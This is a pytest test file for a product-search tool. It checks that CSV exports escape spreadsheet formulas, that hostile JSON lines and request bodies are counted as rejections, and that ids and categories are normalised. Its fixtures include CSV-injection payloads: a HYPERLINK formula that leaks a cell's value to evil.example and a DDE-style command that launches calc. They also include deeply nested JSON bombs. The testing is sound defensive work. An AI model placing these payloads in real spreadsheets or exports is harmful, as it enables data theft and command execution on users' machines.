"""Issue 24, item 4: untrusted text stays data - CSV cells are never formulas, a hostile JSON
line or body is a counted rejection (never a traceback), ids and category names have one
spelling (NFC, trimmed) with merges reported, and truncations are counted.

Through the real CLI (a subprocess) and the HTTP app (TestClient) on a small text-only store.
"""

from __future__ import annotations

import csv
import json
import logging
import os
import subprocess
import sys
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from ctir_es.errors import InvalidRecord
from ctir_es.ingest.images import ImageLoader
from ctir_es.ingest.report import ID_RESPELLED, MERGED_AFTER_NORMALISING
from ctir_es.jsonsafe import csv_cell, loads_untrusted, nesting_depth
from ctir_es.search import Search
from ctir_es.service import create_app
from ctir_es.store.embedded import EmbeddedStore

CLI = [sys.executable, "-m", "ctir_es.cli"]
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+2", "-3+4"]


def run_cli(tmp_path: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = {**os.environ, "CTIR_ES_CONFIG": str(tmp_path / "absent.toml"), "CTIR_ES_CACHE_DIR": str(tmp_path / "cache")}
    for var in ("CTIR_ES_URL", "CTIR_ES_STORE", "CTIR_ES_TEXT_MODEL", "CTIR_ES_CLIP_WEIGHTS"):
        env.pop(var, None)
    out = subprocess.run([*CLI, *args], env=env, capture_output=True, text=True, errors="replace",
                         timeout=300, check=False)
    assert "Traceback" not in out.stdout + out.stderr, out.stderr
    return out


def ingest(tmp_path: Path, records: list[dict], store: Path) -> dict:
    source = tmp_path / f"{store.stem}.jsonl"
    source.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records), encoding="utf-8")
    out = run_cli(tmp_path, "ingest", "jsonl", str(source), "--store", str(store), "--text-model", "none",
                  "--clip-weights", "none", "--no-images", "--json")
    assert out.returncode == 0, out.stderr
    return json.loads(out.stdout)


def _catalogue() -> list[dict]:
    mugs = [{"id": f"mug{i}", "title": f"ceramic coffee mug {i} with handle", "categories": [["Kitchen", "Mugs"]]}
            for i in range(12)]
    sheets = [{"id": f"sheet{i}", "title": f"cotton bed sheet {i} queen size", "categories": [["Home", "Bedding"]]}
              for i in range(12)]
    # hostile ids and titles, filed in the wrong category so the audit ranks them
    hostile = [{"id": text, "title": f"{text} ceramic coffee mug", "categories": [["Home", "Bedding"]]}
               for text in FORMULAS]
    hostile.append({"id": "plain-id", "title": "=1+1 ceramic coffee mug", "categories": [["Home", "Bedding"]]})
    return mugs + sheets + hostile


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    tmp = tmp_path_factory.mktemp("round3")
    path = tmp / "shop.db"
    report = ingest(tmp, _catalogue(), path)
    assert report["indexed"] == 29 and report["rejected_total"] == 0
    return path


# -- CSV injection ---------------------------------------------------------------------------------

def test_csv_cell_rule() -> None:
    for text in ("=1", "+1", "-1", "@x", "\tx", "\rx"):
        assert csv_cell(text) == "'" + text
    for value in ("a=1", " =1", "", "'=1", 1.5, -2.0, 3, None):
        assert csv_cell(value) == value  # numbers stay numbers


def test_audit_csv_escapes_formulas(store: Path, tmp_path: Path) -> None:
    out_file = tmp_path / "audit.csv"
    out = run_cli(tmp_path, "audit", "--k", "100", "--json", "--csv", str(out_file), "--store", str(store))
    assert out.returncode == 0, out.stderr
    entries = json.loads(out.stdout)["entries"]
    rows = list(csv.DictReader(out_file.open(encoding="utf-8", newline="")))
    assert len(rows) == len(entries) and len(rows) >= 5
    by_id = {e["id"]: e for e in entries}
    for text in FORMULAS:
        assert text in by_id, text  # the JSON output keeps the text as it is
    cells = [cell for row in rows for cell in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _number(c))]
    ids = {r["id"] for r in rows}
    assert {"'" + text for text in FORMULAS} <= ids
    titles = {r["id"]: r["title"] for r in rows}
    assert titles["plain-id"] == "'=1+1 ceramic coffee mug"
    for row in rows:  # numeric columns are still numbers
        float(row["suspicion"]), float(row["gap"])


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


# -- categorize --jsonl: each bad line is a counted rejection ----------------------------------

def test_categorize_jsonl_rejects_each_bad_line_and_keeps_going(store: Path, tmp_path: Path) -> None:
    deep = b'{"id": "deep", "title": "mug", "x": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    lines = [
        json.dumps({"id": "first", "title": "ceramic coffee mug"}).encode(),  # 1: good
        deep,  # 2: deeper than the limit
        b'{"id": "raw", "title": "mug \xff\xfe"}',  # 3: not UTF-8
        b'{"id": "sur", "title": "mug \\ud800"}',  # 4: a lone surrogate escape
        b'{"id": "sur2", "title": "mug", "attributes": {"\\udfff": "x"}}',  # 5: one in a key
        b"[1, 2, 3]",  # 6: not an object
        b'"just a string"',  # 7
        b"",  # 8: blank, skipped
        b'{"id": "broken", ',  # 9: invalid JSON
        json.dumps({"id": "last", "title": "cotton bed sheet"}).encode(),  # 10: good
    ]
    source = tmp_path / "items.jsonl"
    source.write_bytes(b"\n".join(lines) + b"\n")
    out = run_cli(tmp_path, "categorize", "--jsonl", str(source), "--json", "--store", str(store))
    assert out.returncode == 0, out.stderr
    results = [json.loads(line) for line in out.stdout.splitlines()]
    assert [r["line"] for r in results] == [1, 2, 3, 4, 5, 6, 7, 9, 10]
    good = [r for r in results if "error" not in r]
    assert [r["id"] for r in good] == ["first", "last"] and all(r["categories"] for r in good)
    errors = {r["line"]: r["error"] for r in results if "error" in r}
    assert "too_deep" in errors[2] and "invalid_utf8" in errors[3] and "bad_unicode" in errors[4]
    assert "bad_unicode" in errors[5] and "not_an_object" in errors[6] and "not_an_object" in errors[7]
    assert "invalid_json" in errors[9]
    summary = out.stderr.strip().splitlines()[-1]
    assert summary.startswith("categorized 2 lines, rejected 7"), summary
    # the table form: the good lines are printed, the bad ones named on stderr, nothing lost
    out = run_cli(tmp_path, "categorize", "--jsonl", str(source), "--store", str(store))
    assert out.returncode == 0 and "first:" in out.stdout and "last:" in out.stdout
    assert "line 3: invalid_utf8" in out.stderr and "line 2: too_deep" in out.stderr


def test_loads_untrusted_depth_and_unicode() -> None:
    assert nesting_depth('{"a": "[[[[", "b": [[1]]}') == 3  # brackets inside strings do not count
    assert nesting_depth('["\\"[[[", [2]]') == 2
    assert loads_untrusted(b'{"a": [[["ok"]]]}') == {"a": [[["ok"]]]}
    assert loads_untrusted("[" * 64 + "]" * 64) is not None
    for data, reason in (("[" * 65 + "]" * 65, "too_deep"), (b"\xff", "invalid_utf8"), ('"\\ud83d"', "bad_unicode"),
                         ("{,}", "invalid_json"), ("\ud800", "bad_unicode")):
        with pytest.raises(InvalidRecord) as info:
            loads_untrusted(data)
        assert info.value.reason == reason, data
    assert loads_untrusted('"\\ud83d\\ude00"') == "\U0001f600"  # a pair is fine


# -- POST /categorize ------------------------------------------------------------------------------

def test_http_categorize_hostile_json_is_422(store: Path, caplog: pytest.LogCaptureFixture) -> None:
    search = Search(EmbeddedStore(store), None, None, ImageLoader())
    try:
        client = TestClient(create_app(search, []), raise_server_exceptions=False)
        ok = client.post("/categorize", json={"text": "ceramic coffee mug"})
        assert ok.status_code == 200, ok.text
        caplog.set_level(logging.DEBUG)
        bodies = {
            "deep": b'{"text": "mug", "x": ' + b"[" * 1000 + b"]" * 1000 + b"}",
            "deeper": b"[" * 200_000,
            "surrogate": b'{"text": "mug \\ud800"}',
            "surrogate title": b'{"title": "\\udc00 mug"}',
            "raw bytes": b'{"text": "mug \xff"}',
        }
        for name, body in bodies.items():
            r = client.post("/categorize", content=body, headers={"Content-Type": "application/json"})
            assert r.status_code == 422, (name, r.status_code, r.text)
            assert r.json()["error"]["code"] == "invalid_request", name
        assert "Traceback" not in caplog.text and "RecursionError" not in caplog.text
    finally:
        search.close()


# -- one spelling per id and category; merges and truncations counted ------------------------------

def test_ingest_normalises_ids_and_categories_and_reports_merges_and_cuts(tmp_path: Path) -> None:
    records = [
        {"id": "abc", "title": "first abc", "categories": [["Caf\u00e9", "Mugs"]]},
        {"id": "abc ", "title": "second abc", "categories": [["Cafe\u0301", "Mugs"]]},  # trailing space
        {"id": "caf\u00e9-1", "title": "precomposed", "categories": "Caf\u00e9 > Cups"},
        {"id": "cafe\u0301-1", "title": "decomposed", "categories": "Cafe\u0301 > Cups"},  # NFD spelling
        {"id": " solo", "title": "only one spelling", "categories": [["Home"]]},  # trimmed, no merge
        {"id": "same", "title": "plain duplicate"}, {"id": "same", "title": "plain duplicate again"},
        {"id": "big", "title": "x" * 1_000_000, "attributes": {f"k{i}": "v" for i in range(300)},
         "images": [f"/nowhere/{i}.jpg" for i in range(40)]},
    ]
    store = tmp_path / "n.db"
    report = ingest(tmp_path, records, store)
    assert report["duplicates"] == 3  # abc, café-1 and same
    notes = report["notes"]
    assert notes[MERGED_AFTER_NORMALISING] == 2  # "same" merged as spelled: not counted here
    assert notes[ID_RESPELLED] == 3  # "abc ", NFD "café-1", " solo"
    assert notes["title cut to 2,000 characters"] == 1
    assert notes["attributes cut to the first 200"] == 1 and notes["images cut to the first 32"] == 1
    search = Search(EmbeddedStore(store), None, None, None)
    try:
        assert search.store.count() == 5
        roots = {node.name: node for node in search.categories()}
        assert set(roots) == {"Caf\u00e9", "Home"}  # one root for both spellings
        assert {c.name for c in roots["Caf\u00e9"].children} == {"Mugs", "Cups"}
        assert search.product("solo").product.title == "only one spelling"
        assert search.product("abc").product.title == "second abc"  # the later record won
        assert len(search.product("big").product.title) == 2_000
    finally:
        search.close()
